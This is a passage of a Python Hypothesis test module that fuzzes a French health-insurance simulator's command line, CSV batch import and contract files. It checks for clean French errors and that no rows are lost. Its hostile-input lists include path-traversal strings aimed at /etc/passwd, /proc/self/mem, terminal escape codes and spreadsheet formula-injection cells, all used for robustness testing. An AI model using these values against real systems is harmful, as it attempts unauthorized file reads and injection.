"""Trust (issue 10): whatever the input and the environment, a French message and a documented exit
code — never a traceback, never a lost row, never a clobbered file, never code run from disk.

Hostile-input campaign (Hypothesis, fixed seed; `SIMULATEUR_TESTS_FACTEUR=long` gives each target at
least 10 000 examples, see conftest.py):
- the command line: every command, its options discovered from the Typer app, with valid and hostile
  values (huge numbers, other scripts' digits, control sequences, 5 000-character values, paths of
  folders, devices, missing files, the input itself as output…);
- batch cells and whole batch files (UTF-8 ± BOM, UTF-16 LE/BE, Windows-1252, Latin-1 bytes, binary,
  mixed line ends, unclosed quotes, huge cells) through the three batch paths (`lot`, `simuler_lot`,
  `comparer --actes`): every non-blank input row has exactly one output row, in order;
- contract files and guarantee expressions with hostile numbers: what `valider` accepts, `simuler`
  computes (only documented refusals).
Then the kinds found, one test each with the expected message and exit code; the environment
(stdout in cp1252, a full disk, SIGTERM) with real processes; the cache.
"""
from __future__ import annotations

import atexit
import csv
import datetime as dt
import hashlib
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import event, given, strategies as st
from typer.testing import CliRunner

from conftest import RACINE, reglages
from simulateur import charger_contrat, creer_acte, simuler
from simulateur.cli import app
from simulateur.comparaison import comparer_panier, lire_cibles, lire_panier
from simulateur.contrat import contrats_livres, lire_contrat
from simulateur.contrat.expressions import Expression, ExpressionInvalide, analyser, hors_bornes
from simulateur.contrat.validation import valider_contrat
from simulateur.domaine.champs import CHAMPS, COLONNES_OBLIGATOIRES
from simulateur.domaine.erreurs import ContratInvalide, ErreurSimulateur
from simulateur.domaine.natures import NATURES
from simulateur.fichiers import cache
from simulateur.lot import LotInvalide, executer_lot, lire_actes, simuler_lot
from simulateur.parametres import ParametreIndisponible

REFUS = (ErreurSimulateur, ParametreIndisponible)
runner = CliRunner()
ENV = {"COLUMNS": "100", "NO_COLOR": "1", "TERM": "dumb"}
TEMOIN = RACINE / "tests" / "contrats_casses" / "temoin-valide.yaml"
FAMILLE = RACINE / "exemples" / "famille-2025.csv"

# What must never reach the user: a Python traceback, the option parser's English, a raw control sequence.
ANGLAIS = ("Traceback", "Error:", "Usage:", "Try '", "Missing argument", "Missing option", "No such", "Invalid value",
           "unexpected extra", "requires an argument", "does not take", "Aborted", "Exception")
CONTROLE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\x9b]")


def lancer(args, entree=None):
    """Runs the command line in-process (CliRunner); returns the Result."""
    return runner.invoke(app, [str(a) for a in args], input=entree, env=ENV)


def verifier_sortie_cli(r, args):
    """The contract of every command: exit 0, 1 or 2, no traceback, French messages, nothing raw echoed."""
    quoi = f"simulateur {' '.join(repr(str(a))[:80] for a in args)}"
    assert r.exception is None or isinstance(r.exception, SystemExit), f"{quoi} : exception {r.exception!r}"
    assert r.exit_code in (0, 1, 2), f"{quoi} : code {r.exit_code}\n{r.stderr[-2000:]}"
    for mot in ANGLAIS:
        assert mot not in r.stderr, f"{quoi} : « {mot} » sur la sortie d'erreur :\n{r.stderr[-2000:]}"
    assert not CONTROLE.search(r.stderr), f"{quoi} : caractère de contrôle écrit tel quel : {r.stderr[-500:]!r}"
    assert all(len(l) <= 1200 for l in r.stderr.splitlines()), f"{quoi} : message démesuré ({max(map(len, r.stderr.splitlines()))} car.)"
    if r.exit_code == 2:
        assert "erreur" in r.stderr or "erreur" in r.stdout or "illisible" in r.stdout, f"{quoi} : code 2 sans message"


# ------------------------------------------------------------------ the command line: a hostile campaign

DOSSIER = Path(tempfile.mkdtemp(prefix="simulateur-confiance-"))
atexit.register(shutil.rmtree, DOSSIER, ignore_errors=True)


def _preparer_fichiers(d: Path) -> dict:
    """The files the campaign names (inputs are hashed before and after each run: never clobbered)."""
    famille = FAMILLE.read_text(encoding="utf-8")
    f = {
        "actes": d / "actes.csv", "casse": d / "casse.csv", "binaire": d / "binaire.csv", "vide": d / "vide.csv",
        "cp1252": d / "excel.csv", "utf16": d / "utf16.csv", "contrat": d / "contrat.yaml", "contrat_casse": d / "casse.yaml",
        "dossier": d / "dossier", "exemples": d / "exemples.yaml",
    }
    f["actes"].write_text("\n".join(famille.splitlines()[:8]) + "\n", encoding="utf-8")
    f["casse"].write_text('beneficiaire,date,nature,br,frais_reels\nx,"2025-01-01,biologie,1,1\ny,2025-13-01,x,-1,1e9\n', encoding="utf-8")
    f["binaire"].write_bytes(bytes(range(256)) * 4)
    f["vide"].write_bytes(b"")
    f["cp1252"].write_bytes("Bénéficiaire;Date;Nature;BR;Frais réels\nzoé;09/01/2025;consultation-generaliste;30,00;30,00\n"
                            .encode("cp1252"))
    f["utf16"].write_bytes("beneficiaire,date,nature,br,frais_reels\nx,2025-01-09,biologie,10,10\n".encode("utf-16"))
    f["contrat"].write_text(TEMOIN.read_text(encoding="utf-8"), encoding="utf-8")
    f["contrat_casse"].write_text("contrat: {id: x}\nniveaux: [\n", encoding="utf-8")
    f["dossier"].mkdir()
    f["exemples"].write_text((RACINE / "exemples" / "exemples-types.yaml").read_text(encoding="utf-8")[:4000], encoding="utf-8")
    return f


FICHIERS = _preparer_fichiers(DOSSIER)
ENTREES = [p for p in FICHIERS.values() if p.is_file()]


def _empreintes() -> dict:
    return {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in ENTREES}


EMPREINTES = _empreintes()

HOSTILES = ["", " ", "-", "--", "\x1b[31mrouge\x1b[0m", "a\nb", "\t", "x" * 251, "é" * 5000, "[bold]x[/bold]", "[/]", "%s%n{0}",
            "٣٠", "８０", "1e999", "NaN", "-0", "-1", "9" * 27, "9" * 5000, "0,001", "8 0", "9999-12-31", "0001-01-01",
            "2205-03-01", "31/02/2025", "/", ".", "..", "/dev/null", "/dev/full", "/proc/self/mem", "~", "C:\\x",
            "contrats/../../etc/passwd", "a" * 251 + ".yaml", "\u202e", "\ufeff", "\x00", "\x7f", "\x9b31m"]
VALIDES = {
    "contrat": ["cabinets-dentaires", "carcept-evolution-sante", "production-agricole", str(FICHIERS["contrat"]),
                str(FICHIERS["contrat_casse"]), str(FICHIERS["dossier"]), "temoin-valide"],
    "--formule": ["base", "option-2", "f150", "socle", "option"],
    "--formules": ["base,option-2", "cabinets-dentaires:base,carcept-evolution-sante:f150", "option-2,option-2", ":", "x:y,",
                   f"{FICHIERS['contrat']}:option"],
    "--format": ["table", "json", "csv", "jsonl", "texte", "xml"],
    "--date": ["2025-06-01", "01/06/2025", "2024-02-29"],
    "--cotisations": ["base=45.20,option-2=61,00", "base=-1", "option-2=x", "=", "base=1e9"],
    "--ids": ["S1,D1", "S1,S1", "Z9", ","],
    "--fichier": [str(FICHIERS["exemples"]), str(FICHIERS["contrat"]), str(FICHIERS["binaire"]), str(FICHIERS["dossier"])],
    "--actes": [str(FICHIERS[k]) for k in ("actes", "casse", "binaire", "vide", "cp1252", "utf16", "dossier")],
    "fichier": [str(FICHIERS[k]) for k in ("actes", "casse", "binaire", "vide", "cp1252", "utf16", "dossier")] + ["-"],
    "fichiers": [str(FICHIERS["contrat"]), str(FICHIERS["contrat_casse"]), "cabinets-dentaires", str(FICHIERS["binaire"]),
                 str(FICHIERS["dossier"])],
    "id": ["cabinets-dentaires", str(FICHIERS["contrat"]), str(FICHIERS["contrat_casse"])],
    "--contrat": ["cabinets-dentaires", str(FICHIERS["contrat"]), "inconnu"],
    "--sortie": [str(DOSSIER / "sortie.csv"), str(FICHIERS["actes"]), str(FICHIERS["dossier"]), str(DOSSIER / "absent" / "s.csv"),
                 str(DOSSIER / "sortie.json")],
    "--decimale": ["point", "virgule", "comma"],
    "--contrats-dossier": [str(DOSSIER), str(FICHIERS["dossier"]), "/"],
    "--graphique": [str(DOSSIER / "absent" / "g.png"), str(FICHIERS["dossier"]), str(DOSSIER / "g.bmp")],
}
VALIDES.update({c.option: ([c.exemple] if c.exemple else []) + list(c.valeurs) for c in CHAMPS if c.type != "booleen"})
VALIDES["--nature"] = ["consultation-specialiste", "optique-equipement", "aide-auditive", "apres-cancer-bilan", "biologie",
                       "consultation", "dentaire-prothese"]
VALIDES["--frais-reels"] = ["80", "31,50", "1 234,56", "0"]
VALIDES["--br"] = ["31,50", "0", "30"]


def _commandes():
    import typer.main
    from simulateur import cli
    cli._enregistrer()   # the commands are registered lazily (cli.COMMANDES): all of them here
    groupe = typer.main.get_command(app)
    return {nom: cmd for nom, cmd in groupe.commands.items()}


COMMANDES = _commandes()


BASES = {   # the usual options of each command (an act that can be computed), before the drawn ones
    "simuler": ["-f", "option-2", "--nature", "consultation-specialiste", "--br", "30", "--frais-reels", "50", "--date",
                "2025-06-01", "--dptm"],
    "comparer": ["--nature", "consultation-specialiste", "--br", "30", "--frais-reels", "50", "--date", "2025-06-01", "--dptm"],
    "lot": ["-c", "cabinets-dentaires", "-f", "option-2", "-s"],
}


def _valeur(draw, cle):
    valeurs = VALIDES.get(cle, [])
    if valeurs and draw(st.integers(0, 3)) > 0:
        return draw(st.sampled_from(valeurs))
    return draw(st.sampled_from(HOSTILES))


@st.composite
def lignes_de_commande(draw):
    """A command, its positional arguments and options (known ones, misspelt ones, flags with values…),
    valid three times out of four, hostile otherwise."""
    nom = draw(st.sampled_from(sorted(COMMANDES)))
    cmd = COMMANDES[nom]
    args = [nom]
    for p in cmd.params:
        if p.param_type_name == "argument" and draw(st.integers(0, 9)) > 0:
            args.append(_valeur(draw, p.name))
    options = [p for p in cmd.params if p.param_type_name == "option"]
    if nom in BASES and draw(st.integers(0, 3)) > 0:
        args += BASES[nom]
    for _ in range(draw(st.integers(0, 5))):
        if draw(st.integers(0, 9)) == 0 or not options:
            args.append(draw(st.sampled_from(["--bogus", "-z", "--formul", "--", "-", "--format=", "--dptm=oui", "--help",
                                              "--explique=1", "-fx", "-nconsultation", "-s=3"])))
            continue
        p = draw(st.sampled_from(options))
        nom_option = draw(st.sampled_from(list(p.opts) + list(p.secondary_opts)))
        if getattr(p, "is_flag", False):
            args.append(nom_option)
        elif draw(st.integers(0, 19)) == 0:
            args.append(nom_option)                       # an option without its value
        else:
            args += [nom_option, _valeur(draw, p.opts[0])]
    return args


@reglages(300, delai_ms=20_000)
@given(args=lignes_de_commande())
def test_ligne_de_commande_hostile(args, monkeypatch_module):
    r = lancer(args, entree=FAMILLE.read_text(encoding="utf-8") if "-" in args else None)
    verifier_sortie_cli(r, args)
    event(f"{args[0]} → code {r.exit_code}")
    assert _empreintes() == EMPREINTES, f"simulateur {args} : un fichier d'entrée a été modifié"


@pytest.fixture(scope="module")
def monkeypatch_module():
    """The campaign runs in its own folder (charts and outputs land there), with its own cache folder."""
    mp = pytest.MonkeyPatch()
    mp.chdir(DOSSIER)
    yield mp
    mp.undo()


# ------------------------------------------------------------------ batch cells and whole batch files


CELLULES_HOSTILES = ["", " ", "\u00a0", "\u200b", "٣٠", "８０", "1e5", "NaN", "inf", "-0", "-0,00", "-1", "9" * 27, "9" * 400,
                     "0,001", "8 0", "1.234,56", "1,234.56", "€", "30 €", "\x1b[2J", '"', '""', "a\nb", "a\rb", "a\r\nb", ";",
                     ",", "\t", "\ufeff", "\u202e", "9999-12-31", "0001-01-01", "1899-12-31", "2101-01-01", "2205-03-01",
                     "2025-02-29", "29/02/2024", "x" * 2000, "+5", "0x10", "1_000", "²", "½", "١٢", "𝟏𝟐", "=1+1", "@SUM(A1)",
                     "oui", "non", "x", "100 % Santé", "RAC 0", "simple+complexe", "simple", "36", "99", "droite", "majeur",
                     "../../../etc/passwd", "/dev/zero", str(TEMOIN), "cabinets-dentaires", "option-2"]


def _cents(draw, maxi=60_000):
    c = draw(st.integers(0, maxi))
    return draw(st.sampled_from([f"{c // 100}.{c % 100:02d}", f"{c // 100},{c % 100:02d}", str(c // 100)]))


def cellule_valide(draw, nom):
    """A plausible cell of column `nom` (the field's own vocabulary)."""
    from simulateur.domaine.champs import PAR_NOM
    if nom == "beneficiaire":
        return draw(st.sampled_from(["paul", "zoé", "Zoe\u0301", "tom ", "42", "b-1"]))
    if nom == "contrat":
        return draw(st.sampled_from(["", "", "cabinets-dentaires", "production-agricole", "carcept-evolution-sante", "inconnu"]))
    if nom == "formule":
        return draw(st.sampled_from(["", "", "option-2", "base", "socle", "f150", "x"]))
    c = PAR_NOM.get(nom)
    if c is None:
        return draw(st.sampled_from(["", "note", "123"]))
    if c.type == "nature":
        return draw(st.sampled_from(sorted(NATURES)))
    if c.type == "date":
        d = draw(st.dates(dt.date(2022, 1, 1), dt.date(2026, 12, 31)))
        return draw(st.sampled_from([d.isoformat(), d.strftime("%d/%m/%Y")]))
    if c.type == "montant":
        return _cents(draw)
    if c.type == "entier":
        return str(draw(st.integers(*(c.bornes or (1, 60)))))
    if c.type == "booleen":
        return draw(st.sampled_from(["", "oui", "non", "1", "0", "x", "true"]))
    if c.type == "choix":
        return draw(st.sampled_from(["", *c.valeurs, *c.synonymes]))
    if c.type == "verres":
        return draw(st.sampled_from(["", "simple+simple", "simple+complexe", "tres-complexe", "complexe,simple"]))
    if c.type == "dent":
        return draw(st.sampled_from(["", "11", "36", "48", "55", "85"]))
    if c.type == "taux":
        return draw(st.sampled_from(["", "70", "100", "60 %", "0"]))
    return ""


@st.composite
def fichiers_csv(draw, cellules_hostiles=True):
    """(text, separator, the rows as written): a header of the required columns, some optional ones (and
    maybe contrat/formule and an unknown column), rows of valid or hostile cells, written by `csv`."""
    facultatives = [c.nom for c in CHAMPS if c.nom not in COLONNES_OBLIGATOIRES] + ["contrat", "formule", "commentaire"]
    colonnes = list(COLONNES_OBLIGATOIRES) + draw(st.lists(st.sampled_from(facultatives), unique=True, max_size=8))
    colonnes = draw(st.permutations(colonnes))
    sep = draw(st.sampled_from([",", ";", "\t"]))
    lignes = []
    for _ in range(draw(st.integers(0, 12))):
        if draw(st.integers(0, 14)) == 0:
            lignes.append([""] * len(colonnes) if draw(st.booleans()) else [" "] * len(colonnes))   # a blank line
            continue
        ligne = []
        for nom in colonnes:
            hostile = cellules_hostiles and draw(st.integers(0, 9)) == 0
            ligne.append(draw(st.sampled_from(CELLULES_HOSTILES)) if hostile else cellule_valide(draw, nom))
        if draw(st.integers(0, 19)) == 0:
            ligne = ligne[:draw(st.integers(0, len(ligne)))]                  # a short row
        elif draw(st.integers(0, 19)) == 0:
            ligne = ligne + draw(st.lists(st.sampled_from(["", "x", "1"]), min_size=1, max_size=3))   # a long row
        lignes.append(ligne)
    f = io.StringIO()
    w = csv.writer(f, delimiter=sep, lineterminator="\n")
    w.writerow(colonnes)
    w.writerows(lignes)
    return f.getvalue(), sep, lignes


def lignes_attendues(texte: str, sep: str) -> list[int]:
    """The file lines of the non-blank records (an independent reading: `csv` on the text with every line
    end made `\\n`): the rows that must each get exactly one output row, in this order."""
    texte = texte.replace("\r\n", "\n").replace("\r", "\n")
    lecteur = csv.reader(io.StringIO(texte, newline=""), delimiter=sep)
    numeros, ligne = [], 1
    next(lecteur, None)
    for cel in lecteur:
        debut, ligne = ligne + 1, lecteur.line_num
        if any(c.strip() for c in cel):
            numeros.append(debut)
    return numeros


def _sortie_csv(texte: str, sep: str):
    lignes = list(csv.reader(io.StringIO(texte, newline=""), delimiter=sep))
    return lignes[0], lignes[1:]


def verifier_lot(donnees: bytes, texte: str, sep: str, fmt: str, decimale, contrat="cabinets-dentaires", formule="option-2"):
    """`executer_lot` on the bytes: one output row per non-blank input row, in order, each with its
    result or an error naming its line; or the whole file refused (LotInvalide) with a French message."""
    sortie = io.StringIO()
    try:
        bilan = executer_lot(donnees, sortie, contrat=contrat, formule=formule, fichier="fuzz.csv", format=fmt, decimale=decimale)
    except ErreurSimulateur as e:
        assert str(e) and not CONTROLE.search(str(e).replace("\n", " ")), repr(str(e))
        return None
    attendues = lignes_attendues(texte, sep)
    assert bilan.lignes == len(attendues), (bilan.lignes, attendues)
    if fmt == "csv":
        entete, lignes = _sortie_csv(sortie.getvalue().lstrip("\ufeff"), sep)
        i_err = entete.index("erreur")
        assert len(lignes) == len(attendues), f"{len(lignes)} lignes en sortie pour {len(attendues)} en entrée"
        erreurs = [l[i_err] for l in lignes]
    else:
        t = sortie.getvalue()
        objets = json.loads(t) if fmt == "json" else [json.loads(l) for l in t.splitlines() if l]
        assert [o["ligne"] for o in objets] == attendues
        erreurs = [o["erreur"] or "" for o in objets]
    for numero, err in zip(attendues, erreurs):
        assert err == "" or err.startswith(f"ligne {numero} : "), (numero, err)
        assert not CONTROLE.search(err), repr(err)
        assert len(err) < 1200
    assert sum(1 for e in erreurs if e) == bilan.erreurs
    return bilan


@reglages(250, delai_ms=20_000)
@given(fichier=fichiers_csv(), fmt=st.sampled_from(["csv", "json", "jsonl"]), decimale=st.sampled_from([None, "point", "virgule"]),
       ligne_contrat=st.booleans())
def test_lot_cellules_hostiles_une_sortie_par_ligne(fichier, fmt, decimale, ligne_contrat):
    texte, sep, _ = fichier
    bilan = verifier_lot(texte.encode("utf-8"), texte, sep, fmt, decimale, *(("cabinets-dentaires", "option-2")
                                                                              if ligne_contrat else (None, None)))
    if bilan is None:     # refused as a whole: only for a NUL byte (binary), or no contract / formula at all
        assert "\x00" in texte or not ligne_contrat, texte[:500]


@reglages(150, delai_ms=20_000)
@given(fichier=fichiers_csv())
def test_simuler_lot_et_panier_une_sortie_par_ligne(fichier):
    """The Python API (`lire_actes` → `simuler_lot`) and `comparer --actes` (`lire_panier` →
    `comparer_panier`, each formula replaying the basket) answer every non-blank row once."""
    texte, sep, _ = fichier
    try:
        lignes = list(lire_actes(io.BytesIO(texte.encode("utf-8"))))
    except ErreurSimulateur as e:
        assert "\x00" in texte, str(e)
        return
    attendues = lignes_attendues(texte, sep)
    assert [l.ligne for l in lignes] == attendues
    resultats = list(simuler_lot(lignes, "cabinets-dentaires", "option-2"))
    assert [r.ligne for r in resultats] == attendues
    for r in resultats:
        assert (r.resultat is None) == (r.erreur is not None)
        assert r.erreur is None or (r.erreur.startswith(f"ligne {r.ligne} : ") and not CONTROLE.search(r.erreur))
    panier = lire_panier(io.BytesIO(texte.encode("utf-8")))
    for c in comparer_panier(lire_cibles("base,option-2", "cabinets-dentaires"), panier):
        assert sorted([n for n, _ in c.resultats] + [n for n, _ in c.erreurs]) == attendues


ENCODAGES = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le+bom", "utf-16-be+bom", "cp1252", "latin-1", "utf-16-le"]


def encoder(texte: str, encodage: str) -> bytes:
    if encodage.endswith("+bom"):
        e = encodage[:-4]
        return (b"\xff\xfe" if e.endswith("le") else b"\xfe\xff") + texte.encode(e, "surrogatepass")
    return texte.encode(encodage, "replace") if encodage in ("cp1252", "latin-1") else texte.encode(encodage, "surrogatepass")


@st.composite
def fichiers_abimes(draw):
    """(bytes, the text they mean or None) : a generated file, encoded one way or another, then mutated:
    mixed line ends, a quote opened in a cell, truncated, bytes of another encoding, NUL bytes, a huge cell."""
    texte, sep, _ = draw(fichiers_csv())
    geste = draw(st.sampled_from(["rien", "fins", "guillemet", "tronquer", "melange", "nul", "enorme", "octets"]))
    if geste == "fins":
        morceaux = texte.split("\n")
        texte = "".join(m + draw(st.sampled_from(["\n", "\r\n", "\r"])) for m in morceaux[:-1]) + morceaux[-1]
    elif geste == "guillemet" and "\n" in texte:
        i = draw(st.integers(texte.index("\n") + 1, len(texte)))
        texte = texte[:i] + '"' + texte[i:]
    elif geste == "tronquer":
        texte = texte[:draw(st.integers(0, len(texte)))]
    elif geste == "enorme":
        texte = texte.rstrip("\n") + "\n" + sep.join(["paul", "2025-01-01", "biologie", '"' + "1" * 1_000_001 + '"', "1"]) + "\n"
    encodage = draw(st.sampled_from(ENCODAGES))
    donnees = encoder(texte, encodage)
    if geste == "melange":
        donnees = donnees + "zoé;2025-01-01\n".encode(draw(st.sampled_from(["utf-8", "cp1252"])))
    elif geste == "nul":
        i = draw(st.integers(0, len(donnees)))
        donnees = donnees[:i] + b"\x00" + donnees[i:]
    elif geste == "octets":
        for _ in range(draw(st.integers(1, 4))):
            i = draw(st.integers(0, len(donnees)))
            donnees = donnees[:i] + bytes([draw(st.integers(0x80, 0xff))]) + donnees[i:]
    return donnees, sep


@reglages(200, delai_ms=20_000)
@given(f=fichiers_abimes(), fmt=st.sampled_from(["csv", "json"]))
def test_lot_fichiers_abimes(f, fmt):
    """Whatever the bytes: either the whole file is refused with a French message (exit 2), or every
    non-blank record — as `csv` itself reads the decoded text — has exactly one output row."""
    donnees, sep = f
    sortie = io.StringIO()
    try:
        bilan = executer_lot(donnees, sortie, contrat="cabinets-dentaires", formule="option-2", fichier="abime.csv", format=fmt)
    except ErreurSimulateur as e:
        assert str(e) and not CONTROLE.search(str(e).replace("\n", " ")), repr(str(e))
        return
    from simulateur.lot.lecture import Table, decoder
    texte = decoder(donnees, "x")[0]
    sep = Table(texte, "x").sep
    attendues = lignes_attendues(texte, sep)
    if fmt == "csv":
        _entete, lignes = _sortie_csv(sortie.getvalue().lstrip("\ufeff"), sep)
        assert len(lignes) == len(attendues) == bilan.lignes
    else:
        assert [o["ligne"] for o in json.loads(sortie.getvalue())] == attendues


# ------------------------------------------------------------------ contract files: what `valider` accepts, `simuler` computes


NOMBRES = st.one_of(
    st.integers(0, 999).map(str), st.integers(0, 99_999).map(lambda c: f"{c // 100},{c % 100:02d}"),
    st.integers(10 ** 8, 10 ** 40).map(str), st.integers(1, 280).map(lambda n: "9" * n), st.just("0"), st.just("00000000001"),
    st.integers(0, 10 ** 6).map(lambda n: f"0,{n:07d}"), st.sampled_from(["1 000 000 000", "100 000 000", "10 000", "366", "367"]),
)
GARANTIES_HOSTILES = st.one_of(
    NOMBRES.map(lambda n: f"{n} % BR"), NOMBRES.map(lambda n: f"+ {n} % BR"), NOMBRES.map(lambda n: f"{n} €"),
    NOMBRES.map(lambda n: f"{n} % FR"), NOMBRES.map(lambda n: f"{n} € / jour"),
    st.tuples(NOMBRES, NOMBRES).map(lambda t: f"{t[0]} € / jour, {t[1]} jours / an"),
    st.tuples(NOMBRES, NOMBRES, NOMBRES).map(lambda t: f"{t[0]} € / jour pendant {t[1]} jours par an, puis {t[2]} € / jour"),
    NOMBRES.map(lambda n: f"crédit {n} € par année civile"), NOMBRES.map(lambda n: f"crédit annuel {n} % PMSS"),
    NOMBRES.map(lambda n: f"{n} % PMSS"), st.tuples(NOMBRES, NOMBRES).map(lambda t: f"{t[0]}/{t[1]} PMSS"),
    st.tuples(NOMBRES, NOMBRES).map(lambda t: f"{t[0]} € par acte, limité à {t[1]} actes par an"),
    st.tuples(NOMBRES, st.sampled_from(["verre", "appareil", "œil", "séance", "boîte"])).map(lambda t: f"{t[0]} € / {t[1]}"),
    st.tuples(NOMBRES, NOMBRES).map(lambda t: f"forfait de {t[0]} € dont au maximum {t[1]} € pour la monture"),
    st.tuples(NOMBRES, NOMBRES).map(lambda t: f"{t[0]} % BR + {t[1]} € par an"),
    NOMBRES.map(lambda n: f"{n} % BR dans la limite des HLF"),
)


@reglages(1000, delai_ms=2000)
@given(texte=GARANTIES_HOSTILES)
def test_expression_aux_nombres_hostiles(texte):
    """A guarantee cell with any number: parsed within the bounds, or refused with a French reason."""
    try:
        e = analyser(texte)
    except ExpressionInvalide as err:
        assert str(err).startswith(f"« {texte} »") or (len(texte) > 300 and "trop longue" in str(err)), str(err)
        return
    assert isinstance(e, Expression)
    assert all(hors_bornes(t) is None for t in e.termes)


CONTRAT_HOSTILE = """contrat: {{id: hostile, nom: hostile, source: test, responsable: {resp}}}
niveaux: {{a: {{libelle: A, convention: inclut-ss}}, b: {{libelle: B, convention: en-complement}}}}
colonnes: {{a: {{niveau: a}}, b: {{niveau: b}}}}
formules: {{f: {{colonnes: [a, b]}}}}
{plafond}{stage}garanties:
  - section: S
    lignes:
      - {{libelle: L1, nature: {nature}, a: {a}, b: {b}}}
"""


@st.composite
def contrats_hostiles(draw):
    nature = draw(st.sampled_from(sorted(NATURES)))
    plafond = stage = ""
    if draw(st.booleans()):
        plafond = f'plafonds_annuels: [{{libelle: P, natures: [{nature}], montant: "{draw(NOMBRES)}", au_dela: ticket-moderateur}}]\n'
    if draw(st.booleans()):
        stage = f'delai_de_stage: {{duree_mois: "{draw(NOMBRES)}", ticket_moderateur: [{nature}]}}\n'
    return nature, CONTRAT_HOSTILE.format(resp=draw(st.sampled_from(["true", "false"])), nature=nature, plafond=plafond,
                                          stage=stage, a=json.dumps(draw(GARANTIES_HOSTILES), ensure_ascii=False),
                                          b=json.dumps(draw(GARANTIES_HOSTILES), ensure_ascii=False))


ACTES_EXTREMES = st.fixed_dictionaries({
    "br": st.sampled_from(["0", "0.01", "30", "1000", "99999999.99", "100000000"]),
    "frais_reels": st.sampled_from(["0", "0.01", "50", "5000", "99999999.99", "100000000"]),
    "quantite": st.sampled_from([1, 2, 366, 10000]),
    "date": st.sampled_from(["1900-01-01", "2025-06-01", "2100-12-31", "2024-02-29"]),
    "date_adhesion": st.sampled_from([None, "1900-01-01", "2025-01-01", "2100-12-31"]),
    "age": st.sampled_from([None, 0, 17, 130]),
    "taux": st.sampled_from([None, "0", "100"]),
})


@reglages(200, delai_ms=20_000)
@given(contrat=contrats_hostiles(), acte=ACTES_EXTREMES)
def test_contrat_valide_toujours_calculable(contrat, acte):
    """What the loader accepts (`valider` says valid or reports rules), `simuler` computes — with
    amounts at their bounds, quantities at 10 000, dates at 1900 and 2100 — or refuses with a
    documented error; the explanation renders; valider never raises."""
    nature, texte = contrat
    try:
        c = lire_contrat(texte, "hostile.yaml")
    except ContratInvalide as e:
        assert all(p.ligne is not None or "trop" in p.message for p in e.problemes), [str(p) for p in e.problemes]
        event("contrat refusé")
        return
    valider_contrat(c, dt.date(2025, 6, 1))
    kw = {k: v for k, v in acte.items() if v is not None}
    try:
        a = creer_acte(nature=nature, dptm=True, panier="libre", verres="simple+complexe", monture="0", limite="100", oreille="droite",
                       fin_traitement="2025-01-01", **kw)
        r = simuler(c, "f", a)
    except REFUS as e:
        event(f"acte refusé ({type(e).__name__})")
        return
    event("calculé")
    assert r.securite_sociale + r.forfait_apres_cancer + sum(p.montant for p in r.parts) + r.reste_a_charge == r.frais_reels
    assert all(p.montant >= 0 for p in r.parts) and r.reste_a_charge >= 0
    from simulateur.rendu import tables
    json.dumps(r.explication_dict(), ensure_ascii=False)
    from rich.console import Console
    Console(file=io.StringIO(), width=100).print(tables.table_resultat(r, c), tables.arbre_explication(r))


@reglages(60, delai_ms=20_000)
@given(contrat=contrats_hostiles())
def test_valider_ligne_de_commande_contrat_hostile(contrat, tmp_path_factory):
    _nature, texte = contrat
    f = tmp_path_factory.mktemp("hostile") / "hostile.yaml"
    f.write_text(texte, encoding="utf-8")
    for args in (["valider", f], ["valider", f, "--format", "json"], ["contrat", f]):
        r = lancer(args)
        verifier_sortie_cli(r, args)


EXEMPLES_TYPES = (RACINE / "exemples" / "exemples-types.yaml").read_text(encoding="utf-8")


@st.composite
def exemples_abimes(draw):
    """The standard examples file with lines dropped, values replaced by hostile ones, or truncated."""
    lignes = EXEMPLES_TYPES.splitlines(keepends=True)
    for _ in range(draw(st.integers(1, 5))):
        i = draw(st.integers(0, len(lignes) - 1))
        geste = draw(st.sampled_from(["supprimer", "valeur", "tronquer", "doubler"]))
        if geste == "supprimer":
            del lignes[i]
        elif geste == "doubler":
            lignes.insert(i, lignes[i])
        elif geste == "tronquer":
            lignes = lignes[:i]
        elif ": " in lignes[i]:
            cle = lignes[i].split(": ", 1)[0]
            lignes[i] = f"{cle}: {json.dumps(draw(st.sampled_from(CELLULES_HOSTILES + HOSTILES)), ensure_ascii=False)}\n"
        if not lignes:
            break
    return "".join(lignes)


@reglages(100, delai_ms=20_000)
@given(texte=exemples_abimes())
def test_exemples_abimes(texte, tmp_path_factory):
    """`exemples --fichier`: a damaged list is refused with fichier:ligne, or computed for every formula."""
    from simulateur.comparaison import calculer_exemples, charger_exemples
    from simulateur.comparaison import Cible
    f = tmp_path_factory.mktemp("exemples") / "exemples.yaml"
    f.write_text(texte, encoding="utf-8")
    try:
        liste = charger_exemples(f)
    except ErreurSimulateur as e:
        assert str(e) and not CONTROLE.search(str(e).replace("\n", " "))
        return
    c = charger_contrat("cabinets-dentaires")
    lignes = calculer_exemples([Cible(x, c, x) for x in c.formules], liste)
    assert len(lignes) == len(liste)


# ------------------------------------------------------------------ the environment, with real processes


PYTHON = [sys.executable, "-m", "simulateur"]
EXEMPLE = ["simuler", "cabinets-dentaires", "--formule", "option-2", "--nature", "consultation-specialiste", "--br", "31,50",
           "--frais-reels", "80", "--date", "2025-06-01", "--dptm"]


def processus(args, **kw):
    env = {**os.environ, "COLUMNS": "100", "SIMULATEUR_CACHE": "0", **kw.pop("env", {})}
    kw.setdefault("stdout", subprocess.PIPE)
    kw.setdefault("stderr", subprocess.PIPE)
    return subprocess.run(PYTHON + [str(a) for a in args], env=env, timeout=120, **kw)


@pytest.mark.parametrize("encodage", ["cp1252", "ascii", "latin-1"])
def test_sortie_standard_dans_un_autre_encodage(encodage):
    """A Windows redirect (cp1252), an ASCII terminal: every line written, the missing characters degraded
    (`?`), exit 0 — never a UnicodeEncodeError. docs/calcul.md §6 worked example: reste à charge 3,25 €."""
    r = processus(EXEMPLE + ["--explique"], env={"PYTHONIOENCODING": encodage})
    assert r.returncode == 0, r.stderr.decode(encodage, "replace")
    texte = r.stdout.decode(encodage)
    assert "3,25" in texte and "Reste" in texte and "Traceback" not in r.stderr.decode(encodage, "replace")
    r = processus(["simuler", "inconnu", "-f", "x", "-n", "biologie", "--frais-reels", "1"], env={"PYTHONIOENCODING": encodage})
    assert r.returncode == 2 and r.stderr.decode(encodage).startswith("erreur : contrat inconnu")


@pytest.mark.parametrize("args", [EXEMPLE, EXEMPLE + ["--explique"], EXEMPLE + ["--format", "json"], ["natures"], ["actes"],
